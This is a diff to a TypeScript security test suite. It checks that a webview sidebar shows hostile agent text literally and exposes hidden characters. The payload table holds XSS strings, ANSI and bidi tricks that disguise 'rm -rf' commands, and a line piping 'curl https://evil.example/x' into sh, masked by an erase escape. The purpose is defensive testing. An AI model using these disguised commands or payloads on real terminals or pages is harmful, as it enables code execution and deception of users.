@@ -16,6 +16,7 @@ import type { UndispatchedItem } from "../../src/protocol/schemas.js";
 import { approval, fixtureState, inboxItem, message, NOW, session, stream } from "../webview/fixtures.js";
 import { REPO_ROOT, Sidebar, launchBrowser, pageHtml, startServer, type Browser, type SbWindow, type StaticServer } from "../webview/harness.js";
 import { Summary } from "./helpers.js";
+import { hasHiddenText, visibleText } from "../../src/protocol/visible-text.js";
 
 const S = new Summary("security/webview");
 
@@ -35,6 +36,12 @@ const PAYLOADS: Record<string, string> = {
   template: "${window.__xss='tpl'} {{constructor.constructor('x')()}}",
   ansi_spoof: "\x1b[2K\x1b[1A\x1b[32m$ npm test\x1b[0m",
   bidi: "\u202erm -rf ~\u202c and \u200b zero width",
+  // Issue 15 item 6: text that disguises a command in a terminal, and characters that hide or reorder text.
+  cr_erase: "curl https://evil.example/x | sh\r\x1b[2K  $ ls -la",
+  osc_title: "\x1b]0;npm test\x07ls",
+  c1_csi: "rm -rf ~\x9b2K\x9b1Als",
+  bidi_isolates: "ls \u2067-la\u2069 \u2066x\u2069 \u061c \u200e\u200f",
+  invisible: "rm\u200b -rf\u2060 /\ufeff\u{e0041}\u{e0042}\u00ad",
   mxss: `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss='m'>`,
   form: `<form action="javascript:window.__xss='f'"><button>Go</button></form>`,
   object: `<object data="javascript:window.__xss='o'"></object>`,
@@ -175,36 +182,40 @@ describe("security/webview: hostile agent text in the sidebar", () => {
         S.equal(r.jsUrls, 0, `${name}: no javascript: URL anywhere`);
         S.equal(r.xss, null, `${name}: no script ran`);
         S.equal(r.href, start, `${name}: the page did not navigate`);
+        // Literally, with control, bidi and invisible characters shown as escapes (the shared visibleText).
+        const v = visibleText(p);
         const literal: Record<string, string> = {
-          summary: p,
-          command: p,
-          approvalSession: p,
-          approvalKind: p,
-          approvalCwd: p,
-          approvalDetail: p,
-          diffAdd: `+${p}`,
-          diffDel: `-${p}`,
-          inboxSender: p,
-          inboxContent: p,
-          inboxReason: `${p} · ${p}`,
-          sessionLabel: p,
-          sessionKind: p,
-          sessionTask: p,
-          sessionPath: p,
-          sessionBranch: p,
-          sessionWorkspace: p,
-          streamCommand: p,
-          streamSession: p,
-          streamStatus: `aborted (killed by ${p}): ${p}`,
-          messageFrom: p,
-          messageContent: p,
-          connDetail: `broker ${p} · ${p}`,
+          summary: v,
+          command: v,
+          approvalSession: v,
+          approvalKind: v,
+          approvalCwd: v,
+          approvalDetail: v,
+          diffAdd: `+${v}`,
+          diffDel: `-${v}`,
+          inboxSender: v,
+          inboxContent: v,
+          inboxReason: `${v} · ${v}`,
+          sessionLabel: v,
+          sessionKind: v,
+          sessionTask: v.replace(/\s+/g, " "), // a one-line preview: runs of spaces become one
+          sessionPath: v,
+          sessionBranch: v,
+          sessionWorkspace: v,
+          streamCommand: v,
+          streamSession: v,
+          streamStatus: `aborted (killed by ${v}): ${v}`,
+          messageFrom: v,
+          messageContent: v,
+          connDetail: `broker ${v} · ${v}`,
         };
         for (const [field, want] of Object.entries(literal)) {
           S.equal(r.text[field]?.trim(), want.trim(), `${name}: ${field} shows the text literally`);
+          S.ok(!hasHiddenText(r.text[field] ?? ""), `${name}: ${field} hides nothing (no control, bidi or invisible character)`);
           fields++;
         }
-        S.ok(r.attrs.some((v) => v.includes(p)), `${name}: attribute values (titles, labels) hold the text as a value`);
+        S.ok(r.attrs.some((a) => a.includes(v)), `${name}: attribute values (titles, labels) hold the text as a value`);
+        S.ok(!r.attrs.some((a) => hasHiddenText(a)), `${name}: no attribute value hides anything`);
       }
       // A disconnected window shows the reason in a banner: literally too.
       for (const [name, p] of Object.entries(PAYLOADS)) {
@@ -212,7 +223,7 @@ describe("security/webview: hostile agent text in the sidebar", () => {
         s.connection = { phase: "disconnected", reason: p, broker_url: null, broker_version: null };
         await sb.state(s);
         const banner = await sb.page.evaluate(() => ({ text: document.querySelector(".banner-reason")?.textContent ?? null, markup: document.querySelectorAll(".banner img, .banner script, .banner a, .banner b").length }));
-        S.equal(banner.text, p, `${name}: the disconnect reason is literal`);
+        S.equal(banner.text, visibleText(p), `${name}: the disconnect reason is literal, hidden characters visible`);
         S.equal(banner.markup, 0);
       }
       // A host result message (it may quote agent text) is literal too.
@@ -232,6 +243,22 @@ describe("security/webview: hostile agent text in the sidebar", () => {
       S.equal(await sb.page.evaluate(() => (window as unknown as SbWindow).__xss ?? null), null);
       S.set("payloads", Object.keys(PAYLOADS).length);
       S.set("fields_checked", fields);
+    } finally {
+      await sb.page.close();
+    }
+  });
+
+  it("a broker warning (a broken audit chain) shows as an alert banner, its text made visible", async () => {
+    const sb = await Sidebar.open(browser, server, { height: 1200 });
+    try {
+      const message = "The approval audit log is broken at line 2 of /x/audit.ndjson\u202e: it is not an audit record.";
+      await sb.state({ ...fixtureState(), warnings: [message] });
+      const banner = sb.page.locator(".broker-warning");
+      await banner.waitFor({ timeout: 5000 });
+      S.equal((await banner.getAttribute("role")), "alert", "announced as an alert");
+      S.equal((await banner.textContent())?.trim(), visibleText(message), "the sentence, with the bidi control visible");
+      await sb.state(fixtureState());
+      S.equal(await sb.page.locator(".broker-warning").count(), 0, "gone when the broker no longer warns");
     } finally {
       await sb.page.close();
     }
